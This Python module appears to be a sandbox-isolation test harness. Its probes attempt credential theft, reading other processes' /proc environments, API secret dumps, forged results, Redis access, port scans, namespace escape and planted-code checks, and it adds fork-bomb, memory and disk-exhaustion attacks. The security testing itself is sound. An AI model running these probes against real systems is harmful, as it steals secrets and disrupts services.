"""What an attacker's model tries from inside its call: every probe reports GOT or blocked.

Standard library only. Each probe returns {"outcome": "GOT"|"blocked", "detail": ...};
`run_all` runs them all and says how many ran, so a probe that broke cannot pass
for a blocked attack. targets.json (next to this file) names the platform's places.
"""

import base64
import json
import os
import socket
import subprocess
import sys
import urllib.error
import urllib.request
from pathlib import Path

TARGETS = Path(__file__).with_name("targets.json")


def targets() -> dict:
    return json.loads(TARGETS.read_text()) if TARGETS.exists() else {}


def _got(detail) -> dict:
    return {"outcome": "GOT", "detail": str(detail)[:300]}


def _blocked(detail) -> dict:
    return {"outcome": "blocked", "detail": str(detail)[:300]}


def _http(method: str, url: str, body: dict, headers: dict) -> tuple[int, str]:
    request = urllib.request.Request(
        url, data=json.dumps(body).encode(), method=method, headers=headers
    )
    request.add_header("Content-Type", "application/json")
    try:
        with urllib.request.urlopen(request, timeout=3) as response:
            return response.status, response.read(300).decode(errors="replace")
    except urllib.error.HTTPError as exc:
        return exc.code, ""


def api_without_credentials(t: dict) -> dict:
    """Read every block, secrets included, as the issue's attacker did."""
    try:
        status, text = _http(
            "POST", t["api"] + "/block_documents/filter", {"include_secrets": True}, {}
        )
    except OSError as exc:
        return _blocked(f"no route: {exc}")
    return _got(text) if status == 200 else _blocked(f"HTTP {status}")


def _credentials(t: dict) -> list[str]:
    found = [
        os.environ[k] for k in ("PREFECT_API_AUTH_STRING", "PREFECT_API_KEY") if k in os.environ
    ]
    for path in t.get("credential_files", []):
        try:
            found.append(Path(path).read_text().strip())
        except OSError:
            continue
    return found


def api_with_found_credentials(t: dict) -> dict:
    """Find the API's credentials (environment, the stack's files) and use them."""
    found = _credentials(t)
    if not found:
        return _blocked("no credentials readable")
    token = base64.b64encode(found[0].encode()).decode()
    try:
        status, text = _http(
            "POST",
            t["api"] + "/block_documents/filter",
            {"include_secrets": True},
            {"Authorization": f"Basic {token}"},
        )
    except OSError as exc:
        return _got(f"credentials read (no route to use them: {exc})")
    return _got(f"HTTP {status} with found credentials: {text}")


def _other_pids() -> list[str]:
    mine = {str(os.getpid()), str(os.getppid())}
    return [p for p in os.listdir("/proc") if p.isdigit() and p not in mine]


def proc_environ(t: dict) -> dict:
    """Other processes' environments: the flow's, the worker's, the server's."""
    readable = []
    for pid in _other_pids():
        try:
            data = Path(f"/proc/{pid}/environ").read_bytes()
        except OSError:
            continue
        if b"PREFECT_" in data or b"CS_" in data:
            readable.append(pid)
    return _got(f"platform environments of pids {readable}") if readable else _blocked("none")


def proc_cmdline(t: dict) -> dict:
    """Other processes' command lines, looking for the secrets the test knows."""
    markers = [m.encode() for m in t.get("secret_markers", []) if m]
    seen, leaks = 0, []
    for pid in _other_pids():
        try:
            data = Path(f"/proc/{pid}/cmdline").read_bytes()
        except OSError:
            continue
        seen += 1
        leaks += [pid for m in markers if m in data]
    if leaks:
        return _got(f"secrets on the command lines of pids {leaks}")
    return _blocked(f"{seen} other command lines readable, no secret on them")


def _own(path: str) -> bool:
    """A folder on the way to the model's own venv or work folder (the sandbox shows those)."""
    return any(mine.startswith(path.rstrip("/") + "/") for mine in (sys.prefix, os.getcwd()))


def _theirs(path: str) -> bool:
    """An entry worth reporting: readable, and not a folder on the way to the model's own."""
    return os.access(path, os.R_OK) and not _own(path)


def _read_any(paths: list[str]) -> list[str]:
    got = []
    for path in paths:
        try:
            if os.path.isdir(path):
                entries = [e for e in os.listdir(path) if _theirs(os.path.join(path, e))]
                if entries:
                    got.append(f"{path}: {sorted(entries)[:5]}")
            else:
                with open(path, "rb") as f:
                    got.append(f"{path}: {f.read(16)!r}")
        except OSError:
            continue
    return got


def prefect_database(t: dict) -> dict:
    got = _read_any([t.get("prefect_db", "/nonexistent")])
    return _got(got) if got else _blocked("not readable")


def platform_files(t: dict) -> dict:
    """CS_HOME (auth file, undelivered results, other models' venvs), the Prefect home."""
    got = _read_any(t.get("platform_paths", []) + t.get("credential_files", []))
    return _got(got) if got else _blocked("not readable")


def task_storage(t: dict) -> dict:
    got = _read_any([t.get("task_storage", "/nonexistent")])
    return _got(got) if got else _blocked("not readable")


def writes_outside(t: dict) -> dict:
    """Write where the platform keeps its state, and into the model's own installed code."""
    written = []
    for folder in [*t.get("writable_targets", []), sys.prefix, "/usr/local"]:
        path = Path(folder, f"pwned-{os.getpid()}")
        try:
            path.write_text("pwned")
            written.append(str(path))
        except OSError:
            continue
    return _got(written) if written else _blocked("every write refused")


def webapp(t: dict) -> dict:
    """Forge a result for any task at the web app."""
    if "webapp" not in t:
        return _blocked("no web app target")
    try:
        status, _ = _http(
            "PUT",
            t["webapp"] + "/outputs/api/",
            {"task_id": "00000000-0000-4000-8000-000000000000", "status": "SUCCESS"},
            {"Authorization": f"Token {t.get('guessed_token', 'guess')}"},
        )
    except OSError as exc:
        return _blocked(f"no route: {exc}")
    return _got(f"HTTP {status}") if status < 300 else _blocked(f"HTTP {status}")


def redis(t: dict) -> dict:
    if "redis_port" not in t:
        return _blocked("no Redis target")
    try:
        with socket.create_connection(("127.0.0.1", int(t["redis_port"])), timeout=3) as s:
            s.sendall(b"KEYS *\r\n")
            answer = s.recv(200)
    except OSError as exc:
        return _blocked(f"no route: {exc}")
    return _blocked(answer) if answer.startswith(b"-") else _got(answer)


def outlive(t: dict, phase: str = "") -> dict:
    """Leave a double-forked, setsid grandchild behind; the test looks for it afterwards."""
    marker = t.get("outlive_marker", "cs-attack-outlive") + "-" + phase
    code = "import time\nwhile True: time.sleep(1)"
    subprocess.Popen(
        ["/bin/sh", "-c", f"{sys.executable} -c '{code}' {marker} &"],
        start_new_session=True,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    ).wait()
    return _blocked("started; the test checks that it is gone")


def install_time_theft(t: dict) -> dict:
    """What install.sh gathered while the environment was built, hidden in the venv."""
    path = Path(sys.prefix, "stolen.txt")
    try:
        stolen = path.read_text()
    except OSError:
        return _blocked("install.sh left nothing")
    return _got(stolen) if stolen.strip() else _blocked("install.sh saw nothing")


def nested_namespaces(t: dict) -> dict:
    """A user namespace of its own would make it root there, free to mount and unshare more."""
    got = []
    try:
        done = subprocess.run(["unshare", "-Ur", "id", "-u"], capture_output=True, timeout=10)
        if done.returncode == 0:
            got.append(f"unshare -Ur: uid {done.stdout.decode().strip()}")
    except (OSError, subprocess.TimeoutExpired):
        pass
    if hasattr(os, "unshare"):
        try:
            os.unshare(os.CLONE_NEWUSER)
            got.append("os.unshare(CLONE_NEWUSER)")
        except OSError:
            pass
    return _got(got) if got else _blocked("no new user namespace")


def injected_binds(t: dict) -> dict:
    """install.sh wrote `home = <canary>/bin` into pyvenv.cfg: did the platform bind it?"""
    canary = t.get("bind_canary")
    if not canary:
        return _blocked("no canary target")
    got = _read_any([canary])
    return _got(got) if got else _blocked("the canary is not in the sandbox")


def planted_code(t: dict) -> dict:
    """install.sh planted a .pth, sitecustomize.py and /etc/ld.so.preload: every Python of this
    environment since ran planted.py, which recorded who it ran as (uid, the platform's
    variables it saw, whether a Prefect API login let it write). GOT: it ran as the platform."""
    import builtins

    records = list(getattr(builtins, "_cs_planted", []))
    for folder in {os.environ.get("HOME") or ".", os.getcwd(), "/tmp"}:
        try:
            lines = Path(folder, "cs-planted.log").read_text().splitlines()
        except OSError:
            continue
        records += [json.loads(line) for line in lines if line.strip()]
    platform = [
        r
        for r in records
        if r["uid"] == 0 or r["platform_env"] or str(r.get("api", "")).startswith("2")
    ]
    detail = json.dumps({"runs": len(records), "as_platform": platform})
    return _got(detail) if platform else _blocked(detail)


def loopback_scan(t: dict) -> dict:
    """Every TCP port of 127.0.0.1: anything answering is a service this call should not see
    (the sandbox's or container's own loopback is empty; the host's is not). `own_ports`: the
    ports the model itself listens on (an interactive app's server), not counted."""
    open_ports, own = [], set(t.get("own_ports", []))
    for port in range(1, 65536):
        with socket.socket() as probe:
            probe.settimeout(0.05)
            # A connect to a free port of the ephemeral range can be a TCP self-connect.
            if probe.connect_ex(("127.0.0.1", port)) == 0 and probe.getsockname()[1] != port:
                open_ports += [] if port in own else [port]
    return _got(f"open: {open_ports}") if open_ports else _blocked("no port open")


def registry(t: dict) -> dict:
    """The image registry's catalogue and a push, without a login and with any found."""
    url = t.get("registry")
    if not url:
        return _blocked("no registry target")
    try:
        status, text = _http("GET", url + "/v2/_catalog", {}, {})
    except OSError as exc:
        return _blocked(f"no route: {exc}")
    return _got(text) if status == 200 else _blocked(f"HTTP {status}")


PROBES = {
    "api_without_credentials": api_without_credentials,
    "api_with_found_credentials": api_with_found_credentials,
    "proc_environ": proc_environ,
    "proc_cmdline": proc_cmdline,
    "prefect_database": prefect_database,
    "platform_files": platform_files,
    "task_storage": task_storage,
    "writes_outside": writes_outside,
    "webapp": webapp,
    "redis": redis,
    "install_time_theft": install_time_theft,
    "outlive": outlive,
    "nested_namespaces": nested_namespaces,
    "injected_binds": injected_binds,
    "planted_code": planted_code,
    "loopback_scan": loopback_scan,
    "registry": registry,
}


# ---- attacks on the bounds: one per call (each one ends the call), chosen by meta_param_dict


def fork_bomb(limit: int = 5000) -> dict:
    """Start sleeping processes until the kernel refuses one; report how many ran at once."""
    started = []
    try:
        for _ in range(limit):
            started.append(subprocess.Popen(["sleep", "600"], stdin=subprocess.DEVNULL))
    except OSError as exc:
        return {"processes": len(started), "stopped_by": repr(exc)[:200]}
    return {"processes": len(started), "stopped_by": None}


def memory_hog(children: int = 4, mib: int = 300, shm_mib: int = 300, hold: float = 30) -> dict:
    """Memory across processes (each under any per-process limit) and /dev/shm."""
    code = f"b = bytearray({mib} * 1024 * 1024)\nimport time\ntime.sleep({hold})"
    procs = [subprocess.Popen([sys.executable, "-c", code]) for _ in range(children)]
    with open(f"/dev/shm/hog-{os.getpid()}", "wb") as shm:
        for _ in range(shm_mib):
            shm.write(b"x" * (1024 * 1024))
    for proc in procs:
        proc.wait()
    return {"children": children, "mib_each": mib, "shm_mib": shm_mib}


def disk_fill(mib: int = 5000) -> dict:
    """Write to the work folder until the disk refuses."""
    written = 0
    try:
        with open("fill.bin", "wb") as f:
            for _ in range(mib):
                f.write(b"x" * (1024 * 1024))
                written += 1
    except OSError as exc:
        return {"written_mib": written, "stopped_by": repr(exc)[:200]}
    return {"written_mib": written, "stopped_by": None}


def many_outputs(count: int = 20000) -> list:
    return [{"media_type": "Text", "title": f"o{i}", "data": "x"} for i in range(count)]


BOUND_ATTACKS = {"fork_bomb": fork_bomb, "memory_hog": memory_hog, "disk_fill": disk_fill}


def run_all(phase: str, extra: dict | None = None) -> dict:
    """Every probe; `extra` adds targets known only at call time (the web app's address)."""
    t, results = {**targets(), **(extra or {})}, {}
    for name, probe in PROBES.items():
        try:
            results[name] = probe(t, phase) if probe is outlive else probe(t)
        except Exception as exc:  # a probe that breaks is reported, and not counted as run
            results[name] = {"outcome": "error", "detail": repr(exc)[:300]}
    ran = sum(r["outcome"] != "error" for r in results.values())
    return {"phase": phase, "uid": os.getuid(), "ran": ran, "probes": results}


def successes(report: dict) -> dict:
    return {k: v for k, v in report["probes"].items() if v["outcome"] == "GOT"}


if __name__ == "__main__":
    print("ATTACK-REPORT " + json.dumps(run_all(sys.argv[1] if len(sys.argv) > 1 else "cli")))
